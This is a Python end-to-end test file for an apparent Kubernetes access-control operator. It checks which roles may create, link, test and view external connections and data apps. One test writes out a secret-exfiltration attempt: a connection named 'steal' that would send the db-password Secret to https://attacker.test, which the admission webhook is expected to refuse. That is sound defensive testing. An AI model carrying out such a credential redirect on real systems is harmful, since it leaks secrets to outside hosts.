"""Who may do what, decided by the real API server: the seed's Authentication table and the link
policy, for admin, builder, interactive viewer and an unprivileged user of one project."""

from __future__ import annotations

import json
import subprocess
from typing import Any

import httpx
import pytest
import yaml

from gatehouse_dev.cluster import Cluster
from gatehouse_dev.resources import unwatched_secret
from gatehouse_dev.waiting import wait_for
from tests.e2e.conftest import Stack
from tests.e2e.gatehouse_fixtures import (
    API_KEY_AUTH,
    Member,
    app_token,
    apply,
    condition,
    connection,
    connection_test,
    data_app,
    fetch,
    finished,
    get,
    grant,
    project_members,
    secret,
    wait_condition,
)

pytestmark = pytest.mark.e2e

NONE_AUTH = {"type": "none"}


def _as(
    cluster: Cluster, member: Member, namespace: str, *args: str, stdin: str | None = None
) -> subprocess.CompletedProcess[str]:
    return cluster.kubectl(*args, "-n", namespace, as_user=member.persona, stdin=stdin, check=False)


def _apply_as(
    cluster: Cluster, member: Member, namespace: str, document: dict[str, Any]
) -> subprocess.CompletedProcess[str]:
    return _as(cluster, member, namespace, "apply", "-f", "-", stdin=yaml.safe_dump(document))


def _forbidden(done: subprocess.CompletedProcess[str]) -> bool:
    return done.returncode != 0 and "forbidden" in done.stderr.lower()


@pytest.fixture
def project(cluster: Cluster, stack: Stack, namespace: str) -> dict[str, Member]:
    """Two connections (one per link policy) and the four members."""
    apply(cluster, namespace, secret("vendor", **{"api-key": "k-access"}))
    apply(
        cluster,
        namespace,
        connection("open", stack.upstream, NONE_AUTH, linkPolicy="Builders"),
        connection("locked", stack.upstream, API_KEY_AUTH, linkPolicy="AdminsOnly"),
    )
    wait_condition(cluster, namespace, "externalconnection/open", "True")
    wait_condition(cluster, namespace, "externalconnection/locked", "True")
    return project_members(cluster, namespace)


def test_only_admins_create_edit_and_delete_connections(
    cluster: Cluster, stack: Stack, namespace: str, project: dict[str, Member]
) -> None:
    for who, allowed in (("admin", True), ("builder", False), ("viewer", False), ("nobody", False)):
        member = project[who]
        draft = connection(f"by-{who}", stack.upstream, NONE_AUTH)
        created = _apply_as(cluster, member, namespace, draft)
        assert (created.returncode == 0) is allowed, (who, created.stderr)
        edited = _as(
            cluster,
            member,
            namespace,
            "patch",
            "externalconnection",
            "open",
            "--type=merge",
            "-p",
            '{"spec":{"instructions":"edited"}}',
        )
        assert (edited.returncode == 0) is allowed, (who, edited.stderr)
        if not allowed:
            assert "forbidden" in created.stderr.lower()
            assert "forbidden" in edited.stderr.lower()
    for who in ("builder", "viewer", "nobody"):
        deleted = _as(cluster, project[who], namespace, "delete", "externalconnection", "open")
        assert _forbidden(deleted), who
    assert (
        _as(
            cluster, project["admin"], namespace, "delete", "externalconnection", "by-admin"
        ).returncode
        == 0
    )


def test_only_admins_view_every_connection_with_kubectl(
    cluster: Cluster, namespace: str, project: dict[str, Member]
) -> None:
    assert _as(cluster, project["admin"], namespace, "get", "externalconnections").returncode == 0
    for who in ("builder", "viewer", "nobody"):
        listed = _as(cluster, project[who], namespace, "get", "externalconnections")
        assert _forbidden(listed), who


def test_the_linkable_list_follows_the_callers_role(
    stack: Stack, namespace: str, project: dict[str, Member]
) -> None:
    url = f"{stack.local.api_url}/api/v1/namespaces/{namespace}/connections"
    seen = {}
    # The reference's plain Viewer does not see the list at all.
    hidden = httpx.get(url, headers=project["plain-viewer"].headers(), timeout=10)
    assert hidden.status_code == 403, hidden.text
    for who in ("admin", "builder", "viewer"):
        reply = httpx.get(url, headers=project[who].headers(), timeout=10)
        assert reply.status_code == 200, reply.text
        seen[who] = sorted(item["name"] for item in reply.json()["items"])
        for item in reply.json()["items"]:
            assert "secretRef" not in item
            assert "auth" not in item
            assert set(item) >= {"hasSecret", "origin", "allowedMethods", "linkPolicy"}
    # The Interactive Viewer sees the Builders ones.
    assert seen == {"admin": ["locked", "open"], "builder": ["open"], "viewer": ["open"]}
    locked = next(
        i
        for i in httpx.get(url, headers=project["admin"].headers()).json()["items"]
        if i["name"] == "locked"
    )
    assert locked["hasSecret"] is True
    assert "k-access" not in str(locked)

    denied = httpx.get(url, headers=project["nobody"].headers(), timeout=10)
    assert denied.status_code == 403
    assert denied.json()["error"]["code"] == "forbidden"
    assert httpx.get(url, timeout=10).status_code == 401
    bad = httpx.get(url, headers={"Authorization": "Bearer not-a-token"}, timeout=10)
    assert bad.status_code == 401
    assert bad.headers["www-authenticate"] == "Bearer"


@pytest.mark.parametrize(
    ("who", "target", "allowed"),
    [
        ("builder", "open", True),
        ("builder", "locked", False),
        ("admin", "open", True),
        ("admin", "locked", True),
    ],
)
def test_link_policy_at_admission(
    cluster: Cluster,
    stack: Stack,
    namespace: str,
    project: dict[str, Member],
    who: str,
    target: str,
    allowed: bool,
) -> None:
    done = _apply_as(cluster, project[who], namespace, data_app(f"app-{who}", {"api": target}))
    assert (done.returncode == 0) is allowed, done.stderr
    if not allowed:
        assert "may not link ExternalConnection 'locked': no connection of that name" in (
            done.stderr
        )
        assert "denied the request" in done.stderr
        assert "Warning:" not in done.stderr
        return
    # What the new link lets the app do, as kubectl's warning (the page says the same).
    assert (
        f"Warning: spec.connections: {target}: Apps linked to this connection can send any data "
        f"they can query to {stack.upstream}."
    ) in done.stderr, done.stderr
    again = _apply_as(cluster, project[who], namespace, data_app(f"app-{who}", {"api": target}))
    assert "Warning:" not in again.stderr  # not a new link


def test_builders_keep_existing_links_and_cannot_add_locked_ones(
    cluster: Cluster, stack: Stack, namespace: str, project: dict[str, Member]
) -> None:
    # An admin links the locked connection; a builder may still edit the app around it.
    assert (
        _apply_as(
            cluster, project["admin"], namespace, data_app("shared", {"pay": "locked"})
        ).returncode
        == 0
    )
    edited = data_app("shared", {"pay": "locked", "web": "open"})
    assert _apply_as(cluster, project["builder"], namespace, edited).returncode == 0
    # Under a second alias the same connection is not a new link either.
    twice = data_app("shared", {"pay": "locked", "pay2": "locked", "web": "open"})
    assert _apply_as(cluster, project["builder"], namespace, twice).returncode == 0
    # Tightening the policy does not cut an existing link (the link policy in
    # docs/security/who-may-do-what.md, "Who may do what").
    apply(
        cluster, namespace, connection("open", stack.upstream, NONE_AUTH, linkPolicy="AdminsOnly")
    )
    unchanged = _apply_as(cluster, project["builder"], namespace, twice)
    assert unchanged.returncode == 0, unchanged.stderr
    fresh = _apply_as(cluster, project["builder"], namespace, data_app("other", {"web": "open"}))
    assert fresh.returncode != 0
    assert "may not link ExternalConnection 'open'" in fresh.stderr


def test_builders_cannot_link_a_connection_before_it_exists(
    cluster: Cluster, namespace: str, project: dict[str, Member]
) -> None:
    early = _apply_as(cluster, project["builder"], namespace, data_app("early", {"x": "future"}))
    assert early.returncode != 0
    assert "may not link ExternalConnection 'future'" in early.stderr
    ahead = _apply_as(cluster, project["admin"], namespace, data_app("early", {"x": "future"}))
    assert ahead.returncode == 0, ahead.stderr


def test_viewers_and_strangers_cannot_build_apps(
    cluster: Cluster, namespace: str, project: dict[str, Member]
) -> None:
    for who in ("viewer", "plain-viewer", "nobody"):
        done = _apply_as(cluster, project[who], namespace, data_app(f"app-{who}", {"web": "open"}))
        assert _forbidden(done), who
    for who in ("viewer", "plain-viewer"):
        assert _as(cluster, project[who], namespace, "get", "dataapps").returncode == 0, who


def test_only_admins_test_connections(
    stack: Stack, namespace: str, project: dict[str, Member]
) -> None:
    url = f"{stack.local.api_url}/api/v1/namespaces/{namespace}/connections/open/tests"
    for who in ("builder", "viewer", "nobody"):
        reply = httpx.post(
            url, json={"path": "/echo/x"}, headers=project[who].headers(), timeout=30
        )
        assert reply.status_code == 403, who
    reply = httpx.post(
        url, json={"path": "/echo/x"}, headers=project["admin"].headers(), timeout=60
    )
    assert reply.status_code == 201, reply.text
    assert reply.json()["passed"] is True
    assert reply.json()["response"]["statusCode"] == 200


def test_a_connection_sends_only_secrets_its_author_may_read(
    cluster: Cluster, stack: Stack, namespace: str, project: dict[str, Member]
) -> None:
    """gatehouse-admin holds no Secret rights: pointing a connection's secretRef at a Secret of
    the namespace (or a connection that has one at another host) would hand that Secret's value
    to whichever host baseURL names. The admission webhook asks for get on the Secret."""
    apply(cluster, namespace, secret("db-password", password="canary-db-password"))
    admin = project["admin"]
    stealing = connection(
        "steal",
        "https://attacker.test",
        {"type": "bearer", "secretRef": {"name": "db-password", "key": "password"}},
    )
    refused = _apply_as(cluster, admin, namespace, stealing)
    assert refused.returncode != 0
    assert "denied the request" in refused.stderr
    assert "spec.auth.secretRef:" in refused.stderr
    assert "may not get Secret 'db-password'" in refused.stderr
    assert "canary-db-password" not in refused.stderr

    def patch(kind: str, change: str) -> subprocess.CompletedProcess[str]:
        return _as(
            cluster, admin, namespace, "patch", "externalconnection", "locked",
            f"--type={kind}", "-p", change,
        )  # fmt: skip

    # An existing connection's Secret cannot be moved to another host either...
    moved = patch("merge", '{"spec":{"baseURL":"https://attacker.test"}}')
    assert moved.returncode != 0
    assert "spec.baseURL:" in moved.stderr
    assert "may not get Secret 'vendor'" in moved.stderr
    # ...nor re-pointed at another Secret, while every other edit stays the admin's.
    repointed = patch(
        "json", '[{"op":"replace","path":"/spec/auth/secretRef/name","value":"db-password"}]'
    )
    assert "may not get Secret 'db-password'" in repointed.stderr
    edited = patch("merge", '{"spec":{"allowedPaths":["/echo"],"instructions":"still mine"}}')
    assert edited.returncode == 0, edited.stderr

    # With get on that one Secret, the same connection is admitted.
    grant(cluster, namespace, "admin", "get", "secrets", "db-password")
    admitted = _apply_as(cluster, admin, namespace, stealing)
    assert admitted.returncode == 0, admitted.stderr


def test_kubectl_tests_only_connections_the_requester_may_see(
    cluster: Cluster, namespace: str, project: dict[str, Member]
) -> None:
    """create connectiontests alone is not a way around the service API's visibility rule: an
    AdminsOnly connection is tested only by those who may update it."""
    for who in ("builder", "viewer"):
        grant(cluster, namespace, who, "create", "connectiontests.gatehouse.dev")

    def test_of(target: str) -> dict[str, Any]:
        return {
            "apiVersion": "gatehouse.dev/v1alpha1",
            "kind": "ConnectionTest",
            "metadata": {"generateName": f"{target}-"},
            "spec": {"connection": target, "path": "/echo/x"},
        }

    def create(who: str, target: str) -> subprocess.CompletedProcess[str]:
        return _as(
            cluster,
            project[who],
            namespace,
            "create",
            "-f",
            "-",
            stdin=yaml.safe_dump(test_of(target)),
        )

    tested = create("builder", "open")
    assert tested.returncode == 0, tested.stderr
    for who, target in (("builder", "locked"), ("builder", "absent"), ("viewer", "locked")):
        refused = create(who, target)
        assert refused.returncode != 0, (who, target)
        # Missing and not visible read the same, so the refusal tells nothing of AdminsOnly ones.
        assert f"no ExternalConnection '{target}' that" in refused.stderr, refused.stderr
    assert create("admin", "locked").returncode == 0


def _build_spec(stack: Stack, namespace: str, app: str, member: Member) -> httpx.Response:
    url = f"{stack.local.api_url}/api/v1/namespaces/{namespace}/dataapps/{app}/build-spec"
    return httpx.get(url, headers=member.headers(), timeout=30)


def test_the_build_spec_shows_each_link_only_as_far_as_the_caller_may_see_it(
    cluster: Cluster, stack: Stack, namespace: str, project: dict[str, Member]
) -> None:
    """An app an admin linked to an AdminsOnly connection: its viewers and builders get that
    link's alias and fetch path, never the connection's instructions, samples, origin or paths
    (which the connection's own endpoints refuse them); what they may see stays whole."""
    apply(
        cluster,
        namespace,
        connection(
            "open", stack.upstream, NONE_AUTH, linkPolicy="Builders", instructions="Open: pages."
        ),
        connection(
            "locked",
            stack.upstream,
            # Public images go with auth none only.
            NONE_AUTH,
            linkPolicy="AdminsOnly",
            allowedPaths=["/echo/payroll"],
            allowPublicImages=True,
            instructions="Locked: salaries by month.",
            headers=[{"name": "X-Payroll-Version", "value": "locked-v9"}],
            allowedContentTypes=["application/json", "text/vnd.payroll"],
        ),
    )
    for target, path in (("open", "/echo/open-export"), ("locked", "/echo/payroll/locked-export")):
        apply(
            cluster,
            namespace,
            connection_test(
                f"{target}-sample", target, path=path, saveAsSample={"label": f"{target} export"}
            ),
        )
    for target in ("open", "locked"):
        assert finished(cluster, namespace, f"{target}-sample")["status"]["sample"]
    app = data_app("payroll", {"pay": "locked", "web": "open", "later": "absent"})
    assert _apply_as(cluster, project["admin"], namespace, app).returncode == 0

    locked_words = (
        "Locked: salaries",
        "locked-export",
        "locked export",
        "/echo/payroll",
        "X-Payroll-Version",
        "vnd.payroll",
    )
    for who in ("builder", "viewer", "plain-viewer"):
        reply = _build_spec(stack, namespace, "payroll", project[who])
        assert reply.status_code == 200, (who, reply.text)
        assert not [word for word in locked_words if word in reply.text], (who, reply.text)
        assert stack.upstream not in json.dumps(reply.json()["imagePolicy"]), who
        links = {link["alias"]: link for link in reply.json()["connections"]}
        # A link the caller may not see reads the same whether its connection exists or not.
        for alias, target in (("pay", "locked"), ("later", "absent")):
            assert set(links[alias]) == {
                "alias",
                "connection",
                "fetchPath",
                "detailsHidden",
                "reason",
            }, (who, links[alias])
            assert links[alias]["connection"] == target
            assert links[alias]["fetchPath"] == f"/v1/fetch/{alias}/"
            assert links[alias]["detailsHidden"] is True
        assert links["pay"]["reason"] == links["later"]["reason"]
        if who == "plain-viewer":
            # gatehouse-viewer may link nothing, so sees no connection at all.
            assert links["web"]["detailsHidden"] is True
            assert "Open: pages." not in reply.text
        else:
            # A Builders connection they may link is theirs to see, samples and all.
            assert links["web"]["detailsHidden"] is False
            assert links["web"]["instructions"] == "Open: pages."
            assert links["web"]["origin"] == stack.upstream
            assert [sample["label"] for sample in links["web"]["samples"]] == ["open export"]
        detail = f"{stack.local.api_url}/api/v1/namespaces/{namespace}/connections/locked"
        assert httpx.get(detail, headers=project[who].headers(), timeout=30).status_code in (
            403,
            404,
        )
    assert _build_spec(stack, namespace, "payroll", project["nobody"]).status_code == 403

    # Admins see every link whole (one to a missing connection is no connection).
    admin = _build_spec(stack, namespace, "payroll", project["admin"])
    assert admin.status_code == 200, admin.text
    seen = {link["alias"]: link for link in admin.json()["connections"]}
    assert set(seen) == {"pay", "web"}
    assert seen["pay"]["instructions"] == "Locked: salaries by month."
    assert [sample["label"] for sample in seen["pay"]["samples"]] == ["locked export"]
    assert seen["pay"]["detailsHidden"] is False
    assert seen["pay"]["headers"] == [{"name": "X-Payroll-Version", "value": "locked-v9"}]
    assert seen["pay"]["allowedContentTypes"] == ["application/json", "text/vnd.payroll"]
    assert admin.json()["imagePolicy"]["origins"] == [stack.upstream]


def test_a_builder_cannot_tell_an_admins_only_connection_from_a_missing_one(
    cluster: Cluster, namespace: str, project: dict[str, Member]
) -> None:
    """kubectl's server-side dry run of an app is the link policy's answer: it reads the same for
    an AdminsOnly connection, a missing one and (for someone without the link verb) a Builders
    one, as the service API and the ConnectionTest check answer them."""
    grant(cluster, namespace, "plain-viewer", "get,create", "dataapps.gatehouse.dev")

    def refusal(who: str, target: str) -> str:
        app = data_app("probe", {"x": target})
        done = _as(
            cluster,
            project[who],
            namespace,
            "apply",
            "--dry-run=server",
            "-f",
            "-",
            stdin=yaml.safe_dump(app),
        )
        assert done.returncode != 0, (who, target)
        assert "denied the request" in done.stderr, done.stderr
        return done.stderr.replace(repr(target), "'NAME'")

    assert refusal("builder", "locked") == refusal("builder", "absent")
    assert refusal("plain-viewer", "open") == refusal("plain-viewer", "absent")


def test_a_builder_cannot_make_the_operator_take_over_a_secret(
    cluster: Cluster, stack: Stack, namespace: str, project: dict[str, Member]
) -> None:
    """An app's credential Secret is named after the app (dataapp-NAME-gatehouse). A builder,
    who may not read or write Secrets, names apps after Secrets that are someone else's: the
    operator neither replaces one (its keys lost) nor adopts one that holds a token (whose
    known value would then authenticate as the app), nor deletes one with the app."""
    builder = project["builder"]
    for verb in ("get", "create", "update"):
        can = _as(cluster, builder, namespace, "auth", "can-i", verb, "secrets")
        assert can.stdout.strip() == "no", (verb, can.stdout)
    apply(
        cluster,
        namespace,
        unwatched_secret("dataapp-ledger-gatehouse", password="LEDGER-DB-PASSWORD"),
        secret("dataapp-mirror-gatehouse", token="KNOWN-TOKEN-FROM-ELSEWHERE"),
    )
    before = {name: _secret(cluster, namespace, name) for name in TAKEN}
    for app in ("ledger", "mirror", "own"):
        done = _apply_as(cluster, builder, namespace, data_app(app, {"web": "open"}))
        assert done.returncode == 0, done.stderr
    wait_condition(cluster, namespace, "dataapp/own", "True")
    for app in ("ledger", "mirror"):
        ready = wait_condition(cluster, namespace, f"dataapp/{app}", "False", "SecretConflict")
        assert (
            f"Secret 'dataapp-{app}-gatehouse' exists and is not this DataApp's"
            in (ready["message"])
        )
        issued = condition(cluster, namespace, f"dataapp/{app}", "CredentialIssued")
        assert (issued["status"], issued["reason"]) == ("False", "SecretConflict")
        events = cluster.kubectl(
            "get", "events", "-n", namespace, "-o", "yaml",
            f"--field-selector=involvedObject.name={app}",
        )  # fmt: skip
        assert f"dataapp-{app}-gatehouse" in events.stdout
        assert "SecretConflict" in events.stdout
    # Untouched: data, labels, owners.
    assert {name: _secret(cluster, namespace, name) for name in TAKEN} == before
    known = fetch(stack.proxy, "KNOWN-TOKEN-FROM-ELSEWHERE", "web", "/echo/x")
    assert known.status_code == 401, known.text

    # Deleting the apps deletes the Secret made for one, and leaves the others.
    for app in ("ledger", "own"):
        _as(cluster, builder, namespace, "delete", "dataapp", app)
    wait_for(
        lambda: get(cluster, namespace, "secret/dataapp-own-gatehouse") is None,
        timeout=20,
        interval=0.2,
        what="the app's own Secret deleted with it",
    )
    assert _secret(cluster, namespace, "dataapp-ledger-gatehouse") == before[TAKEN[0]]

    # The name freed, the app gets a Secret of its own (tried again every 30 s).
    cluster.kubectl("delete", "secret", "dataapp-mirror-gatehouse", "-n", namespace)
    wait_for(
        lambda: condition(cluster, namespace, "dataapp/mirror").get("status") == "True",
        timeout=45,
        interval=0.5,
        what="mirror Ready once the Secret's name is free",
    )
    token = app_token(cluster, namespace, "dataapp-mirror-gatehouse")
    assert token != "KNOWN-TOKEN-FROM-ELSEWHERE"


TAKEN = ("dataapp-ledger-gatehouse", "dataapp-mirror-gatehouse")


def _secret(cluster: Cluster, namespace: str, name: str) -> dict[str, Any]:
    """What of a Secret the operator could have changed."""
    found = get(cluster, namespace, f"secret/{name}") or {}
    meta = found.get("metadata", {})
    return {
        "data": found.get("data"),
        "labels": meta.get("labels"),
        "owners": meta.get("ownerReferences"),
        "resourceVersion": meta.get("resourceVersion"),
    }
